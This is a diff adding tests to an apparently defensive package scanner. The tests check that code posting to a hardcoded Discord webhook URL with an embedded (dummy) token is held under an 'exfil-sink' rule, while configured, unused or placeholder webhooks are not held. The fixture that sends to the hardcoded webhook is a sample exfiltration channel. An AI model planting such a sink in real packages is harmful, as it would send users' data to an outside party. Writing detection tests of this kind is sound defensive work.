@@ -661,3 +661,38 @@ def test_a_config_file_written_a_line_at_a_time_is_not_code() -> None:
     )
     rules, held = _report(_package({"demo/cfg.py": source}), "demo-1.0.tar.gz")
     assert not held and "drop-run" not in rules
+
+
+HOOK_URL = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5" * 7
+
+
+def test_a_webhook_whose_token_the_code_carries_and_sends_to_is_held() -> None:
+    source = (
+        "import requests\n"
+        "def notify(text):\n"
+        f"    requests.post({HOOK_URL!r}, json={{'content': text}})\n"
+    )
+    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert held and rules["exfil-sink"] == 10
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # The user's own webhook, from configuration: a notifier library.
+        "import os, requests\n"
+        "def notify(text):\n"
+        "    requests.post(os.environ['DISCORD_WEBHOOK_URL'], json={'content': text})\n"
+        "API = 'https://discord.com/api/webhooks/'\n",
+        # A webhook written in, but nothing here sends to it.
+        f"EXAMPLE = {HOOK_URL!r}\n",
+        # A placeholder in a help text, beside network use.
+        "import requests\n"
+        "HELP = 'e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'\n"
+        "def ping(url):\n    requests.get(url)\n",
+    ],
+    ids=["configured", "not sent to", "placeholder"],
+)
+def test_a_webhook_without_credentials_or_without_a_send_is_not_held(source: str) -> None:
+    rules, held = _report(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert not held and rules.get("exfil-sink", 0) < 10
